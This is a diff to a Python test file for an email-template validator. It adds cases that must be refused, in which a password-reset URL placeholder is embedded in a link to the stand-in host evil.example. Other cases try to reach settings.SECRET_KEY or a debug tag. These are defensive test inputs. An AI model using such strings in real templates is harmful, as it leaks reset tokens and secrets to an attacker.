@@ -171,6 +171,9 @@ def test_a_text_is_written_and_cleaned(editor: Client) -> None:
         ("subject", "{{ nome }}", "Unknown placeholders: nome."),
         ("subject", "{{ settings.SECRET_KEY }}", "Braces are for placeholders alone"),
         ("html", "<p>{% debug %}{{ reset_url }}</p>", "Braces are for placeholders alone"),
+        ("html", '<a href="https://evil.example/?{{ reset_url }}">x</a>', "Misplaced: reset_url."),
+        ("html", "<p>https://evil.example/?{{ reset_url }}</p>", "Misplaced: reset_url."),
+        ("subject", "{{ reset_url }}", "The subject cannot contain a link: reset_url."),
     ],
 )
 def test_a_text_that_cannot_be_sent_is_refused(
